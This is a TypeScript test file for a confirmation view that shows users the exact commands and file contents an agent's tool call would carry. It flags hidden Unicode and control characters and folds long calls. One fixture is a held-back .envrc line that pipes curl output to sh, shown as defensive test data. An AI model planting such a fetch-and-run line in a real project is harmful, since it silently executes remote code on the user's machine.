import { describe, expect, it } from 'vitest';
import {
  evidenceOf,
  folded,
  foldedWords,
  hasMarks,
  isFolded,
  withSigns,
} from '../../src/renderer/ask/confirm/evidence.ts';
import type { ConfirmAsk } from '../../src/shared/asks/asks.ts';
import { diffRuns } from '../../src/renderer/text/diff-runs.ts';
import { exactly, sampleConfirm } from './samples.ts';

const shown = (exact: string, action = 'open_file') =>
  evidenceOf({ action, exact, command: null, changes: [] });
const heldBackAsk: Pick<ConfirmAsk, 'heldBack'> = {
  heldBack: {
    ...{ path: '/w/.envrc', within: '/w', effect: 'direnv runs it.', change: 'created' },
    ...{ trashId: 't1', command: ['make'], ofEntry: 'e1' },
  },
};
const none = { argv: [], parts: [], says: '', changes: [], texts: [], rows: [], json: '' } as const;

describe('the exact call', () => {
  it('is a list of words where it is a command, and nothing beside it is lost', () => {
    const exact = exactly({ argv: ['sh', '-c', 'a; b', ''], cwd: '/w', env: { A: '1' } });
    expect(shown(exact)).toEqual({
      ...none,
      argv: ['sh', '-c', 'a; b', ''],
      rows: [{ name: 'cwd', text: '/w' }],
      json: exactly({ env: { A: '1' } }),
    });
    expect(shown(exactly({ argv: ['ls'] }))).toEqual({ ...none, argv: ['ls'] });
  });

  it.each([
    ['a value that is no plain one', exactly({ edits: [{ path: '/w/a' }] })],
    ['an empty command', exactly({ argv: [] })],
    ['words that are none', exactly({ argv: ['ls', 1] })],
    ['a list', exactly([1])],
    ['no JSON', '{"argv": ["ls"'],
    ['a key that is there twice', '{\n  "argv": [\n    "rm"\n  ],\n  "argv": [\n    "ls"\n  ]\n}'],
    ['a number that reads back as another', '{\n  "argv": [\n    "ls"\n  ],\n  "n": 1e400\n}'],
  ])('is shown as it came when it has %s', (_what, exact) => {
    expect(shown(exact)).toEqual({ ...none, json: exact });
  });

  it('has texts of several lines apart, each as its lines; what is one line stays an argument', () => {
    const content = 'first\nsecond\n';
    const evidence = shown(exactly({ path: '/w/a', content, note: 'one line\n' }));
    const texts = [{ name: 'content', text: content }];
    const rows = [{ name: 'path', text: '/w/a' }];
    expect(evidence).toEqual({ ...none, texts, rows, json: exactly({ note: 'one line\n' }) });
    expect(hasMarks(evidence)).toBe(false);
    expect(hasMarks(shown(exactly({ content: 'a\nb\u202E' })))).toBe(true);
    expect(hasMarks(shown(exactly({ 'a\u200B': 'a\nb' })))).toBe(true);
    const view = folded(evidence, evidence.json.length + '/w/a'.length + 'path'.length + 20 + 6);
    expect(view.texts).toEqual([{ name: 'content', text: 'first\n' }]);
    expect(view.hiddenCharacters).toBe('second\n'.length);
  });

  it('shows a new file of one line as that line, without JSON', () => {
    const exact = exactly({ content: 'save-exact=true\n', overwrite: true });
    expect(shown(exact, 'create_file')).toEqual({
      ...none,
      texts: [{ name: 'content', text: 'save-exact=true\n' }],
      rows: [{ name: 'overwrite', text: 'true' }],
    });
    expect(shown(exact).json).toContain(String.raw`save-exact=true\n`);
  });

  it('shows a held-back file of one line as that line, without JSON', () => {
    const of = (text: string) =>
      evidenceOf({
        action: 'held_back_file',
        exact: exactly({ '.envrc': text }),
        command: null,
        changes: [],
        ...heldBackAsk,
      });
    const text = 'export A="$(curl x | sh)"\n';
    expect(of(text)).toEqual({ ...none, texts: [{ name: '.envrc', text }] });
    expect(of('A=1')).toEqual({ ...none, rows: [{ name: '.envrc', text: 'A=1' }] });
    // Only JSON shows these exactly.
    expect(of('a\r\n').json).toBe(exactly({ '.envrc': 'a\r\n' }));
    expect(of('a \n\n ').json).toBe(exactly({ '.envrc': 'a \n\n ' }));
  });

  it('shows every line break and tab of such a text, so that Enter and completion are seen', () => {
    expect(withSigns('a \n\n\tb\n')).toBe('a ↵\n↵\n⇥b↵\n');
    expect(withSigns('a\nb')).toBe('a↵\nb');
  });

  it.each([
    ['blanks at its end', { input: 'a\nb ' }],
    ['a last line of blanks', { input: 'a\nb\n  ' }],
    ['carriage returns', { input: 'a\r\nb' }],
    ['the sign of a line break', { input: 'a↵b\nc' }],
    ['the sign of a tab', { input: 'a⇥b\nc' }],
    ['a blank in its name', { 'input ': 'a\nb' }],
    ['no name', { '': 'a\nb' }],
  ])('keeps a text in JSON that has %s', (_what, value) => {
    expect(shown(exactly(value))).toEqual({ ...none, json: exactly(value) });
  });

  it('keeps an argument called __proto__ in view', () => {
    const exact = '{\n  "argv": [\n    "ls"\n  ],\n  "__proto__": 1\n}';
    expect(shown(exact).rows).toEqual([{ name: '__proto__', text: '1' }]);
  });

  it('is marked for what hides or rearranges, not for line breaks', () => {
    const marked = (argument: string) => hasMarks(shown(exactly({ argv: ['x', argument] })));
    expect(['a\u202Eb', 'a\u200Bb', '\u001B[2J', 'a\rb', '\u{E0041}'].every(marked)).toBe(true);
    expect(marked('a\n\tb')).toBe(false);
    expect(hasMarks(shown(exactly({ content: 'a\u2066b' })))).toBe(true);
  });
});

describe('a long call', () => {
  it('says how much is hidden', () => {
    const view = folded({ ...none, json: 'x'.repeat(20_000) }, 6000);
    expect(view.json).toHaveLength(6000);
    expect(foldedWords(view)).toBe('14,000 characters hidden');
  });

  it('counts the arguments that are not shown, and what follows them', () => {
    const view = folded(
      { ...none, argv: Array.from({ length: 500 }, () => 'xx'), json: '{}' },
      220,
    );
    expect(view.argv).toHaveLength(10);
    expect(view.json).toBe('');
    expect(foldedWords(view)).toBe('982 characters and 490 arguments hidden');
  });

  it('is complete when it fits, including empty words', () => {
    const whole = { ...none, argv: ['a', '', ''], json: '{}' };
    expect(folded(whole, 1000)).toMatchObject(whole);
    expect(isFolded(folded(whole, 1000))).toBe(false);
    expect(isFolded(folded(whole, 25))).toBe(true);
  });

  it('is never cut inside a character', () => {
    expect(folded({ ...none, json: 'a😀' }, 2)).toMatchObject({ json: 'a', hiddenCharacters: 2 });
  });
});

describe('what is in no argument', () => {
  const change = { path: '/w/a.ts', diff: '@@ -1 +1 @@\n-a\n+b\n', isProtected: false };

  it('a command that the project names is shown as its words, beside the arguments', () => {
    const exact = exactly({ root: '/w' });
    const { command } = sampleConfirm({ command: taskCommand });
    expect(evidenceOf({ action: 'run_tests', exact, command, changes: [] })).toEqual({
      ...none,
      argv: ['npm', 'run', 'test'],
      says: 'test: vitest',
      rows: [{ name: 'root', text: '/w' }],
    });
  });

  it('changes are evidence: their marks count, and none is hidden unsaid', () => {
    expect(hasMarks({ ...none, changes: [{ ...change, diff: '+a\u202Eb' }] })).toBe(true);
    expect(hasMarks({ ...none, changes: [{ ...change, path: '/w/a\nb' }] })).toBe(true);
    const long = { ...none, changes: [change, { ...change, diff: 'x'.repeat(1000) }, change] };
    const view = folded(long, 500);
    expect(view.changes).toHaveLength(2);
    expect(view.hiddenCharacters).toBeGreaterThan(500);
    expect(isFolded(view)).toBe(true);
    expect(isFolded(folded(long, 5000))).toBe(false);
  });

  it('a diff is drawn in runs of one kind, and no line is lost', () => {
    const runs = diffRuns('@@ -1,3 +1,3 @@\n a\n-b\n-c\n+d\n e\n');
    expect(runs.map(({ kind }) => kind)).toEqual(['place', 'same', 'gone', 'new', 'same']);
    expect(runs.map(({ text }) => text).join('\n')).toBe('@@ -1,3 +1,3 @@\n a\n-b\n-c\n+d\n e');
  });
});

const taskCommand = {
  argv: ['npm', 'run', 'test'],
  program: '/usr/bin/npm',
  programFile: '/usr/bin/npm',
  cwd: '/w',
  says: 'test: vitest',
  effects: ['runs-other-code'],
  environment: ['PATH'],
  whyOnce: '',
} as const;
